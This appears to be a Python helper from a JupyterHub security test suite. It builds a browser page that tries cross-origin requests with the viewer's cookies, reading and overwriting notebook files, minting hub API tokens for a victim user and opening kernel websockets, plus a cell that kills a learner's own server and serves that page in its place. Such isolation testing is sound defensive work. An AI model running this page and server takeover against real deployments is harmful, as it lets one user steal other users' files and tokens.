"""A page that tries what a page can with the cookies of whoever looks at it, and a learner who puts it on the way."""

# What a page can try with the cookies of whoever looks at it. What it gets to see is in the page's title, sorted out.
ATTACK = """<!doctype html><title>waiting</title><script>
const [home, hub] = [%(home)r, %(hub)r], seen = [];
const attempts = {
    fetch: () => fetch(`${home}/api/contents/note.txt`, {credentials: "include"}).then(answer => answer.text()),
    silent: () => fetch(`${home}/api/contents/note.txt`, {credentials: "include", mode: "no-cors"}).then(a => a.text()),
    file: () => fetch(`${home}/files/note.txt`, {credentials: "include"}).then(answer => answer.text()),
    write: () => fetch(`${home}/api/contents/note.txt`, {method: "PUT", credentials: "include", body: JSON.stringify(
        {type: "file", format: "text", content: "broken into"})}).then(answer => answer.text()),
    plain: () => fetch(`${home}/api/contents`, {method: "POST", credentials: "include", mode: "no-cors",
        headers: {"Content-Type": "text/plain"}, body: "{}"}).then(answer => answer.text()),
    token: () => fetch(`${hub}/api/users/%(victim)s/tokens`, {method: "POST", credentials: "include", body: "{}"})
        .then(answer => answer.ok ? answer.text().then(text => "TOKEN " + text) : ""),
    socket: () => new Promise((done, fail) => {
        const socket = new WebSocket(`${home.replace("http", "ws")}/api/kernels/%(kernel)s/channels`);
        socket.onopen = () => done("OPEN"); socket.onerror = fail;
    }),
    frame: () => new Promise(done => {
        const frame = document.createElement("iframe");
        frame.src = `${home}/files/note.txt`;
        frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch (error) { done(""); } };
        document.documentElement.append(frame);
    }),
    window: () => new Promise(done => {
        const other = window.open(`${home}/files/note.txt`);
        setTimeout(() => { try { done(other.document.body.innerText); } catch (error) { done(""); } }, 4000);
    }),
    cookies: () => Promise.resolve(document.cookie.includes("jupyterhub-user") ? "OPEN" : ""),
};
Promise.all(Object.entries(attempts).map(([name, attempt]) => Promise.race([
    Promise.resolve().then(attempt).catch(() => ""), new Promise(done => setTimeout(() => done(""), 8000)),
]).then(text => { if (/OPEN|TOKEN|%(secret)s/.test(text)) seen.push(name); }))).then(
    () => { document.title = "seen: " + seen.sort().join(" "); });
</script>"""

# A learner ends the own server and puts another one in its place: no rule of JupyterLab holds for what it sends.
ROGUE = """
import os, subprocess, sys, urllib.parse
place = urllib.parse.urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
program = '''
import http.server, os, signal, sys, time
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(open(sys.argv[3], "rb").read())
    def log_message(self, *words): pass
os.kill(int(sys.argv[1]), signal.SIGKILL)
for _ in range(100):
    try:
        http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[2])), Page).serve_forever()
    except OSError:
        time.sleep(0.1)
'''
open("page.html", "w", encoding="utf-8").write(PAGE)
subprocess.Popen([sys.executable, "-c", program, str(os.getppid()), str(place.port), os.path.abspath("page.html")],
                 start_new_session=True)
print(place.path)
"""


def attack(home, hub, victim, kernel, secret):
    """The page that tries all of it against the victim, whose server is at `home`."""
    return ATTACK % {"home": home, "hub": hub, "victim": victim, "kernel": kernel, "secret": secret}


def what_it_sees(page, address):
    """Look at the page; gives the names of the attempts that have come through."""
    page.goto(address)
    page.wait_for_function("document.title.startsWith('seen:')", timeout=60_000)
    return page.title().removeprefix("seen:").split()


def rogue(page):
    """The cell with which a learner puts this page in the place of the own server."""
    return f"PAGE = {page!r}\n{ROGUE}"
